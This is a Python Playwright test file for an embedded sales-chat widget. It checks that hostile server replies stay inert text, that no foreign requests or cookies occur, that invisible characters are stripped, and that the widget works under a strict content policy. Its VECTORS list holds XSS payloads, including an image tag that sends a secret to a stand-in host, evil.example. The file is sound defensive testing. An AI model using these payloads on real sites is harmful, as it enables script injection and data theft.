"""What comes from outside is text: it runs nothing, loads nothing and links nowhere it should not."""

import pytest
from playwright.sync_api import Page, Request, expect

from tests.browser.conftest import Chat, Host
from tests.browser.fake_api import FakeApi

VECTORS = [
    "<script>hacked()</script>",
    "<img src=https://evil.example/?q=SECRET onerror=hacked()>",
    "![x](https://evil.example/?q=SECRET)",
    "[click](javascript:hacked())",
    "<svg onload=hacked()><a xlink:href='javascript:hacked()'>x</a></svg>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<a href='javascript:hacked()'>here</a>",
    "</div></dialog><style>*{display:none}</style>",
    "<details open ontoggle=hacked()>",
    "<math><mtext><style><img src onerror=hacked()></style></mtext></math>",
    "\u202egnp.exe \u200b\U000e0041\U000e0042",
    "https://evil.example/login",
]
TRUSTED_TYPES = "require-trusted-types-for 'script'; trusted-types 'none'"
STRICT = f"default-src 'none'; script-src {{site}}; connect-src {{endpoint}}; {TRUSTED_TYPES}"
ALL = "[...document.querySelector('sales-agent').shadowRoot.querySelectorAll('{}')]"
WATCH = """window.broken = [];
addEventListener("securitypolicyviolation", (event) => broken.push(event.violatedDirective));"""


@pytest.fixture
def foreign(page: Page, site: str, endpoint: str) -> list[str]:
    """Requests to anywhere but the site and the API."""
    seen: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((site, endpoint)):
            seen.append(request.url)

    page.on("request", note)
    page.add_init_script("window.hacks = 0; window.hacked = () => window.hacks++")
    return seen


def hostile(vector: str) -> dict[str, object]:
    """A reply with the vector in every member the server could fill."""
    url = vector if ":" in vector else f"javascript:hacked()//{vector}"
    citation = {"number": 1, "title": vector, "url": url, "passage": vector}
    return {
        "text": f"{vector} [1]\n\n- {vector}",
        "kind": vector,
        "citations": [citation],
        "products": [{"product_id": vector, "name": vector, "price": vector, "url": url}],
        "slots": [{"offer": vector, "label": vector, "start": vector}],
        "appointment": {"appointment_id": vector, "label": vector, "join_url": url, "status": vector},
        "asks": [vector],
    }


def test_every_vector_stays_text(page: Page, site: str, api: FakeApi, foreign: list[str]) -> None:
    page.goto(site)
    chat = Chat(page)
    chat.open()
    for vector in VECTORS:
        api.replies.append(hostile(vector))
        reply = chat.ask(vector)
        if vector.isascii():
            expect(reply).to_contain_text(vector)
    api.fail("/messages", 422, detail=VECTORS[0])
    chat.say("x")
    expect(page.locator("sales-agent .visitor").last).to_have_attribute("data-state", "refused")
    page.reload()
    expect(chat.replies).to_have_count(len(VECTORS))
    assert page.evaluate("window.hacks") == 0
    assert foreign == []
    assert page.evaluate(ALL.format("script,img,iframe,style,math") + ".length") == 0
    schemes = page.evaluate(ALL.format("a") + ".map((a) => new URL(a.href).protocol)")
    assert set(schemes) <= {"http:", "https:"}


def test_an_address_in_the_text_is_a_link_only_on_a_cited_host(chat: Chat, api: FakeApi) -> None:
    text = "See https://www.wrenandkettle.example/faq/, not https://evil.example/login."
    cited = {"number": 1, "title": "FAQ", "url": "https://www.wrenandkettle.example/faq/", "passage": ""}
    api.replies.append({"text": text, "citations": [cited], "kind": "answer"})
    chat.open()
    links = chat.ask("Where?").locator("p a")
    assert [link.get_attribute("href") for link in links.all()] == ["https://www.wrenandkettle.example/faq/"]


def test_a_site_can_name_the_only_hosts_that_may_be_linked(host: Host, page: Page, site: str) -> None:
    host.tag["data-link-hosts"] = "docs.wrenandkettle.example"
    page.goto(site)
    chat = Chat(page)
    chat.open()
    reply = chat.ask("What does it cost?")
    expect(reply).to_contain_text("Wren Duo")
    expect(reply.get_by_role("link")).to_have_count(0)


def test_characters_nobody_sees_are_taken_out_and_emoji_stay(chat: Chat, api: FakeApi) -> None:
    ranges = [(0xE0000, 0xE0080), (0x202A, 0x202F), (0x2060, 0x2070), (0x200B, 0x200C), (0xFEFF, 0xFF00), (0x1B, 0x1C)]
    hidden = "".join(chr(each) for start, end in ranges for each in range(start, end))
    api.replies.append({"text": f"Hello{hidden} 👩‍💻 ❤️ می‌خواهم", "kind": "answer"})
    chat.open()
    expect(chat.ask("Hi").locator("p")).to_have_text("Hello 👩‍💻 ❤️ می‌خواهم")


def test_it_runs_under_the_strictest_content_policy(host: Host, page: Page, site: str, api: FakeApi) -> None:
    host.headers["content-security-policy"] = STRICT.format(site=site, endpoint=host.endpoint)
    page.add_init_script(WATCH)
    page.goto(site)
    chat = Chat(page)
    chat.open()
    chat.ask("Does it work?")
    assert page.evaluate("broken") == []
    expect(page.locator("sales-agent .visitor .bubble")).to_have_css("border-top-left-radius", "16px")


def test_the_page_can_neither_restyle_nor_be_restyled(host: Host, page: Page, site: str) -> None:
    host.head = "<style>button, p, div { color: red !important; font-size: 40px !important }</style>"
    page.goto(site)
    chat = Chat(page)
    chat.open()
    expect(page.locator("sales-agent .greeting p")).to_have_css("font-size", "15px")
    expect(page.locator("body > p")).to_have_css("font-size", "40px")


def test_the_token_stands_in_no_address_and_no_cookie_is_set(page: Page, site: str, api: FakeApi) -> None:
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    page.goto(site)
    chat = Chat(page)
    chat.open()
    chat.ask("Hello")
    [session] = api.sessions.values()
    assert not [url for url in urls if session.token in url]
    assert page.context.cookies() == []
